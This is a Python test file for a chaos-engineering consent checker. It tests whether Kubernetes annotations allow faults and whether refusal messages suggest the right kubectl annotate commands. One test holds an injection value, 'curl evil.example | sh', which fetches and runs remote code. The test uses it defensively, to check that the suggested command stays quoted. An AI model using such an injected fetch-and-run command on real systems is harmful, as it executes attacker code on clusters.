"""What the owners of a cluster allow: a table of annotations."""

import shlex
from typing import Any

import pytest

from chaos.safety.consent import allowed_by, objections_of_node, refusals


def namespace(**annotations: str) -> dict[str, Any]:
    """A namespace with these annotations of ours."""
    return {
        "metadata": {"name": "llm", "annotations": {f"gameday.dev/{key}": value for key, value in annotations.items()}}
    }


def workload(allow: str = "") -> dict[str, Any]:
    """A Deployment that allows these faults."""
    annotations = {"gameday.dev/allow": allow} if allow else {}
    return {"kind": "Deployment", "metadata": {"name": "chat", "annotations": annotations}}


def told(actions: list[str], where: dict[str, Any], what: dict[str, Any], allow: list[str] | None = None) -> str:
    """All refusals in one text."""
    return "; ".join(refusals(actions, namespace=where, workload=what, allow=allow))


def test_what_all_three_name_is_allowed() -> None:
    """Namespace, workload and file agree: nothing speaks against it; without a list of its own the file agrees."""
    assert told(["pod-kill"], namespace(adopt="enabled"), workload("pod-kill, evict")) == ""
    assert told(["pod-kill"], namespace(adopt="enabled"), workload("evict,pod-kill"), ["pod-kill"]) == ""


def test_a_scenario_without_faults_needs_no_consent() -> None:
    """To look is not to touch."""
    assert told([], namespace(), workload()) == ""


@pytest.mark.parametrize(
    ("actions", "where", "what", "allow", "words"),
    [
        (
            ["pod-kill"],
            namespace(),
            workload("pod-kill"),
            None,
            "kubectl annotate namespace llm gameday.dev/adopt=enabled",
        ),
        (["pod-kill"], namespace(adopt="true"), workload("pod-kill"), None, "have not allowed faults"),
        (
            ["pod-kill"],
            namespace(adopt="enabled"),
            workload("evict"),
            None,
            "kubectl annotate deployment chat -n llm --overwrite gameday.dev/allow=evict,pod-kill",
        ),
        (
            ["pod-kill", "evict"],
            namespace(adopt="enabled"),
            workload("pod-kill,evict"),
            ["evict"],
            "pod-kill is not in safety.allow",
        ),
        (
            ["evict"],
            namespace(adopt="enabled", freeze="release week"),
            workload("evict"),
            None,
            "namespace llm is frozen: release week",
        ),
        (
            ["evict"],
            namespace(adopt="enabled", freeze=""),
            workload("evict"),
            None,
            "namespace llm is frozen: no reason is given",
        ),
    ],
)
def test_each_refusal_says_who_and_how(
    actions: list[str], where: dict[str, Any], what: dict[str, Any], allow: list[str] | None, words: str
) -> None:
    """What is missing is told with the very command that would give it."""
    assert words in told(actions, where, what, allow)


def test_a_node_gives_its_own_consent() -> None:
    """A node's annotation is asked, and the command that extends it keeps what it allows already."""
    node = {"kind": "Node", "metadata": {"name": "n1", "annotations": {"gameday.dev/allow": "node-drain"}}}
    assert objections_of_node(node, "node-drain") == ""
    assert objections_of_node(node, "pool-drain").endswith(
        "kubectl annotate node n1 --overwrite gameday.dev/allow=node-drain,pool-drain"
    )
    assert allowed_by({"metadata": {"name": "n2"}}) == frozenset()


def test_the_command_names_the_resource_of_a_kind_of_others() -> None:
    """Its kind in small letters alone is no name for kubectl where two kinds share it."""
    raw = {"kind": "Rollout", "metadata": {"name": "chat"}}
    where = namespace(adopt="enabled")
    (said,) = refusals(["evict"], namespace=where, workload=raw, allow=None, resource="rollouts.argoproj.io")
    assert "kubectl annotate rollouts.argoproj.io chat -n llm --overwrite gameday.dev/allow=evict" in said


def test_a_command_for_people_runs_nothing_that_an_annotation_holds() -> None:
    """Whoever may annotate a workload, or a kubelet its own node, has nobody who copies the command run his words."""
    evil = "evict; curl evil.example | sh #,node-drain"
    node = {"kind": "Node", "metadata": {"name": "n1", "annotations": {"gameday.dev/allow": evil}}}
    for words in (
        told(["pod-kill"], namespace(adopt="enabled"), workload(evil)),
        objections_of_node(node, "pool-drain"),
    ):
        command = shlex.split(words.partition("allow it with: ")[2])
        assert command[:2] == ["kubectl", "annotate"]
        assert command[-1].startswith(f"gameday.dev/allow={evil.partition(',')[0]},node-drain,")
